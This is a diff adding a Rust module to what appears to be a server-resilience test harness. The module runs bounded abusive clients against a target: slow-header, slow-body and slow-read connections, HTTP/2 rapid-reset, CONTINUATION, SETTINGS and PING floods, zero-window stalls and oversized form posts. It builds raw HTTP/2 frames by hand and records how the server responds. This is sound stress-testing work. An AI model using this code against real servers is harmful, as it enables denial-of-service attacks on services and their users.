@@ -1,0 +1,325 @@
+//! Clients that misuse the protocol rather than the form: slow ones, HTTP/2 with floods and closed windows, giant forms.
+//!
+//! Bounded like everything here: so many connections at once, so many bytes on each, a pause between two, until the
+//! attack is over.
+
+use std::collections::BTreeMap;
+use std::net::SocketAddr;
+use std::sync::{Arc, Mutex, PoisonError};
+use std::time::{Duration, Instant};
+
+use serde::Serialize;
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
+use tokio::task::JoinSet;
+use tokio::time::{sleep, sleep_until, timeout_at};
+
+use crate::client;
+use crate::networks;
+use crate::scenario::Scenario;
+use crate::world::World;
+
+/// Connections at once: with both ends in one process, 600 descriptors.
+const ABUSERS: usize = 300;
+/// Between two connections of one abuser.
+const PAUSE: Duration = Duration::from_secs(2);
+/// Most bytes that a flood sends on one connection.
+const FLOOD_BYTES: usize = 4 << 20;
+/// Between two drips of a slow client.
+const DRIP_EVERY: Duration = Duration::from_secs(1);
+
+/// One way to misuse the protocol.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Abuse {
+    NoBytes,
+    SlowHead,
+    SlowBody,
+    SlowRead,
+    RapidReset,
+    Continuation,
+    SettingsFlood,
+    PingFlood,
+    ZeroWindow,
+    GiantBody,
+    ManyFields,
+    LongField,
+}
+
+/// What became of one kind of abuse.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Serialize)]
+pub struct Tale {
+    /// Connections that were tried.
+    pub tried: u64,
+    /// Of these, not accepted.
+    pub not_connected: u64,
+    /// Of these, ended by the server.
+    pub ended: u64,
+    /// Of these, open when the attack ended.
+    pub open: u64,
+    /// Longest time that one held a connection, seconds.
+    pub longest_seconds: f64,
+}
+
+/// All tales, by kind.
+#[derive(Debug, Default)]
+pub(crate) struct Tales(Mutex<BTreeMap<&'static str, Tale>>);
+
+impl Tales {
+    fn tell(&self, abuse: Abuse, note: impl FnOnce(&mut Tale)) {
+        note(
+            self.0
+                .lock()
+                .unwrap_or_else(PoisonError::into_inner)
+                .entry(abuse.name())
+                .or_default(),
+        );
+    }
+
+    pub(crate) fn snapshot(&self) -> BTreeMap<&'static str, Tale> {
+        self.0.lock().unwrap_or_else(PoisonError::into_inner).clone()
+    }
+}
+
+impl Abuse {
+    fn of(scenario: Scenario) -> &'static [Self] {
+        match scenario {
+            Scenario::SlowClients => &[Self::NoBytes, Self::SlowHead, Self::SlowBody, Self::SlowRead],
+            Scenario::H2Abuse => &[
+                Self::RapidReset,
+                Self::Continuation,
+                Self::SettingsFlood,
+                Self::PingFlood,
+                Self::ZeroWindow,
+            ],
+            Scenario::GiantForms => &[Self::GiantBody, Self::ManyFields, Self::LongField],
+            _ => &[],
+        }
+    }
+
+    fn name(self) -> &'static str {
+        match self {
+            Self::NoBytes => "no bytes",
+            Self::SlowHead => "slow head",
+            Self::SlowBody => "slow body",
+            Self::SlowRead => "slow read",
+            Self::RapidReset => "rapid reset",
+            Self::Continuation => "continuation",
+            Self::SettingsFlood => "settings flood",
+            Self::PingFlood => "ping flood",
+            Self::ZeroWindow => "zero window",
+            Self::GiantBody => "giant body",
+            Self::ManyFields => "many fields",
+            Self::LongField => "long field",
+        }
+    }
+
+    /// Says what this abuse says, and then nothing; ends early when the other end takes no more.
+    async fn speak(self, out: &mut (impl AsyncWrite + Unpin), page: &str, host: &str) -> std::io::Result<()> {
+        let post = |length: usize| {
+            format!(
+                "POST {page}/sign HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
+                 Content-Length: {length}\r\n\r\n"
+            )
+            .into_bytes()
+        };
+        match self {
+            Self::NoBytes => Ok(()),
+            Self::SlowHead => {
+                out.write_all(format!("GET {page} HTTP/1.1\r\nHost: {host}\r\n").as_bytes())
+                    .await?;
+                drip(out, b"X-More: 1\r\n").await
+            }
+            Self::SlowBody => {
+                out.write_all(&post(12_000)).await?;
+                drip(out, b"a").await
+            }
+            Self::SlowRead => {
+                let ask = format!("GET {page} HTTP/1.1\r\nHost: {host}\r\n\r\n");
+                out.write_all(ask.repeat(500).as_bytes()).await?;
+                // An empty line between requests says nothing, and finds out whether anybody is there.
+                drip(out, b"\r\n").await
+            }
+            Self::RapidReset => {
+                out.write_all(&preface(&[])).await?;
+                for batch in 0..1000u32 {
+                    let streams = (0..100).map(|stream| (batch * 100 + stream) * 2 + 1);
+                    let bytes: Vec<u8> = streams
+                        .flat_map(|stream| [get(stream, page), reset(stream)].concat())
+                        .collect();
+                    out.write_all(&bytes).await?;
+                }
+                Ok(())
+            }
+            Self::Continuation => {
+                let start = frame(HEADERS, 0b1, 1, &[0x82, 0x87]);
+                out.write_all(&[preface(&[]), start].concat()).await?;
+                flood(out, &frame(CONTINUATION, 0, 1, &[0x00, 1, b'x', 1, b'y'])).await
+            }
+            Self::SettingsFlood => {
+                out.write_all(&preface(&[])).await?;
+                flood(out, &frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 10])).await
+            }
+            Self::PingFlood => {
+                out.write_all(&preface(&[])).await?;
+                flood(out, &frame(PING, 0, 0, &[0; 8])).await
+            }
+            Self::ZeroWindow => {
+                let asks: Vec<u8> = (0..10).flat_map(|stream| get(2 * stream + 1, page)).collect();
+                // SETTINGS_INITIAL_WINDOW_SIZE 0
+                out.write_all(&[preface(&[0, 4, 0, 0, 0, 0]), asks].concat()).await
+            }
+            Self::GiantBody => {
+                out.write_all(&post(1 << 30)).await?;
+                flood(out, b"name=aaaaaaaaaaaaaaaaaaaaaaaaaaaa&comment=bbbbbbbbbbbbbbbbbbbbb&").await
+            }
+            Self::ManyFields => {
+                let body = "a=&".repeat(5000);
+                out.write_all(&[post(body.len()), body.into_bytes()].concat()).await
+            }
+            Self::LongField => {
+                let body = format!("name={}", "%F0%9F%98%80".repeat(1300));
+                out.write_all(&[post(body.len()), body.into_bytes()].concat()).await
+            }
+        }
+    }
+
+    /// Hears what the other end says until it says no more.
+    async fn listen(self, from: &mut (impl AsyncRead + Unpin)) {
+        let mut chunk = [0; 4096];
+        let room = if self == Self::SlowRead { 1 } else { chunk.len() };
+        while let Ok(1..) = from.read(&mut chunk[..room]).await {
+            match self {
+                Self::SlowRead => sleep(DRIP_EVERY).await,
+                // An answer is all there is: the form was refused, and the connection is kept for another.
+                Self::ManyFields | Self::LongField => return,
+                _ => {}
+            }
+        }
+    }
+}
+
+async fn drip(out: &mut (impl AsyncWrite + Unpin), drop: &[u8]) -> std::io::Result<()> {
+    loop {
+        sleep(DRIP_EVERY).await;
+        out.write_all(drop).await?;
+    }
+}
+
+async fn flood(out: &mut (impl AsyncWrite + Unpin), piece: &[u8]) -> std::io::Result<()> {
+    let batch = piece.repeat((64 << 10) / piece.len());
+    for _ in 0..FLOOD_BYTES / batch.len() {
+        out.write_all(&batch).await?;
+    }
+    Ok(())
+}
+
+const HEADERS: u8 = 1;
+const RESET: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const CONTINUATION: u8 = 9;
+
+/// An HTTP/2 frame (RFC 9113 section 4.1). Payloads here are far below the 16 KiB of one frame.
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = (payload.len() as u32).to_be_bytes();
+    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+/// The preface (RFC 9113 section 3.4) with its SETTINGS.
+fn preface(settings: &[u8]) -> Vec<u8> {
+    [
+        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..],
+        &frame(SETTINGS, 0, 0, settings),
+    ]
+    .concat()
+}
+
+/// `GET path` in HPACK's static table and literals (RFC 7541). A path of ours is shorter than 127 bytes.
+fn get(stream: u32, path: &str) -> Vec<u8> {
+    let path = [&[0x04, path.len().min(126) as u8], path.as_bytes()].concat();
+    frame(
+        HEADERS,
+        0b101,
+        stream,
+        &[&[0x82, 0x86][..], &path, &[0x01, 1, b'a']].concat(),
+    )
+}
+
+fn reset(stream: u32) -> Vec<u8> {
+    // CANCEL
+    frame(RESET, 0, stream, &[0, 0, 0, 8])
+}
+
+/// Misuses the protocol for as long as the attack lasts. Nothing for scenarios without such clients.
+pub(crate) async fn run(world: Arc<World>) {
+    let kinds = Abuse::of(world.options.scenario);
+    if kinds.is_empty() {
+        return;
+    }
+    sleep_until((world.started + world.plan.attack_from).into()).await;
+    let mut abusers = JoinSet::new();
+    for index in 0..ABUSERS {
+        abusers.spawn(abuser(Arc::clone(&world), kinds[index % kinds.len()], index));
+    }
+    while abusers.join_next().await.is_some() {}
+}
+
+/// One abuser: connects, misuses, is thrown out, comes again.
+async fn abuser(world: Arc<World>, abuse: Abuse, index: usize) {
+    let end = world.started + world.plan.attack_to;
+    // Not all in one instant: what is measured is the abuse, not a burst of connections.
+    sleep(PAUSE.mul_f64(index as f64 / ABUSERS as f64)).await;
+    let mut port = 1024 + index as u16;
+    while Instant::now() < end {
+        port = port.checked_add(307).unwrap_or(1024);
+        let source = SocketAddr::new(networks::hosting_address(index).into(), port);
+        once(&world, abuse, source, end).await;
+        sleep(PAUSE).await;
+    }
+}
+
+async fn once(world: &World, abuse: Abuse, source: SocketAddr, end: Instant) {
+    world.abuse.tell(abuse, |tale| tale.tried += 1);
+    let Ok(mut stream) = client::open(&world.forged_road, source).await else {
+        return world.abuse.tell(abuse, |tale| tale.not_connected += 1);
+    };
+    let began = Instant::now();
+    let (mut reader, mut writer) = stream.split();
+    let (page, host) = (world.path(""), world.forged_road.target.authority());
+    let speaking = async {
+        // Everything said: the rest is for the other end to do. Not taken: it has done it.
+        if abuse.speak(&mut writer, &page, host).await.is_ok() {
+            std::future::pending::<()>().await;
+        }
+    };
+    let both = async {
+        tokio::select! {
+            () = speaking => {}
+            () = abuse.listen(&mut reader) => {}
+        }
+    };
+    let ended = timeout_at(end.into(), both).await.is_ok();
+    let seconds = (began.elapsed().as_secs_f64() * 10.0).round() / 10.0;
+    world.abuse.tell(abuse, |tale| {
+        if ended {
+            tale.ended += 1;
+        } else {
+            tale.open += 1;
+        }
+        tale.longest_seconds = tale.longest_seconds.max(seconds);
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn frames_are_those_of_the_protocol() {
+        assert_eq!(
+            frame(PING, 0, 0, &[0; 8]),
+            [0, 0, 8, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]
+        );
+        assert!(preface(&[]).ends_with(&[0, 0, 0, 4, 0, 0, 0, 0, 0]));
+        assert_eq!(get(3, "/p")[..9], [0, 0, 9, 1, 5, 0, 0, 0, 3]);
+    }
+}
